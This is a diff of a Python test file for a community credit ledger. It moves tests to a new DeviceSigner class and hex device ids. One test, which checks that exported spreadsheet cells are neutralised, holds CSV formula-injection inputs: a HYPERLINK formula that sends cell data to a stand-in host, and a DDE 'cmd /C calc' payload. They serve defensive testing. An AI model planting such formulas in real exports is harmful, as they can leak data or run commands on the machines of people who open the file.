@@ -13,8 +13,9 @@ from sync.community.demo import demo_keys, demo_signers, demo_view, member_id
 from sync.community.formats import export_json, import_json, ledger_csv
 from sync.community.ledger import check_ledger
 from sync.community.model import EntryKind, Member, Role
-from sync.community.signed import CREDIT_UNIT, Ed25519Signer, KeyringVerifier, LedgerEntry
+from sync.community.signed import CREDIT_UNIT, KeyringVerifier, LedgerEntry
 from sync.community.view import CommunityView
+from sync.identity import DeviceSigner
 
 TODAY = dt.date(2026, 11, 24)
 AT = dt.datetime(2026, 6, 1, 17, 0, tzinfo=dt.UTC)
@@ -77,7 +78,7 @@ def test_entries_needing_review_say_why(view: CommunityView) -> None:
     signer = demo_signers()[payer]
     tampered = dataclasses.replace(view.ledger[-1], amount_minor=view.ledger[-1].amount_minor + 1)
     too_much = LedgerEntry(
-        "zz-too-much", EntryKind.CREDIT_TRANSFER, payer, signer.device_id, 100_000, CREDIT_UNIT, AT,
+        "zz-too-much", EntryKind.CREDIT_TRANSFER, payer, signer.device_id.hex, 100_000, CREDIT_UNIT, AT,
         counterparty=member_id("ada"),
     ).signed_by(signer)  # fmt: skip
     bigger = dataclasses.replace(view, ledger=(*view.ledger, tampered, too_much))
@@ -102,16 +103,16 @@ def test_a_report_of_another_ledger_marks_unjudged_entries(view: CommunityView) 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
 def test_cells_that_would_run_as_formulas_are_neutralised(start: str) -> None:
-    signer = Ed25519Signer.generate()
+    signer = DeviceSigner.generate()
     evil = f'{start}HYPERLINK("http://x.invalid/?"&A1,"click")'
     members = {
         "m1": Member(
-            "m1", f"{start}cmd|' /C calc'!A0" if start != "\t" else "Tab", Role.ADMIN, (signer.device_id,)
+            "m1", f"{start}cmd|' /C calc'!A0" if start != "\t" else "Tab", Role.ADMIN, (signer.device_id.hex,)
         ),
         "m2": Member("m2", "Bob", Role.MEMBER),
     }
     entry = LedgerEntry(
-        "e1", EntryKind.CREDIT_TRANSFER, "m1", signer.device_id, 30, CREDIT_UNIT, AT,
+        "e1", EntryKind.CREDIT_TRANSFER, "m1", signer.device_id.hex, 30, CREDIT_UNIT, AT,
         counterparty="m2", memo=evil if start != "\t" else "ok",
     ).signed_by(signer)  # fmt: skip
     view = CommunityView(name="T", members=members, credit_limits={"m1": 60}, ledger=(entry,))
@@ -125,17 +126,17 @@ def test_cells_that_would_run_as_formulas_are_neutralised(start: str) -> None:
 
 
 def test_commas_quotes_and_unicode_survive() -> None:
-    signer = Ed25519Signer.generate()
+    signer = DeviceSigner.generate()
     memo = 'Paid "Zoë", for: soup, bread; thanks ✓'
     members = {
-        "m1": Member("m1", "Łukasz, Jr.", Role.ADMIN, (signer.device_id,)),
+        "m1": Member("m1", "Łukasz, Jr.", Role.ADMIN, (signer.device_id.hex,)),
         "m2": Member("m2", "B", Role.MEMBER),
     }
     entry = LedgerEntry(
         "e1",
         EntryKind.CREDIT_TRANSFER,
         "m1",
-        signer.device_id,
+        signer.device_id.hex,
         5,
         CREDIT_UNIT,
         AT,
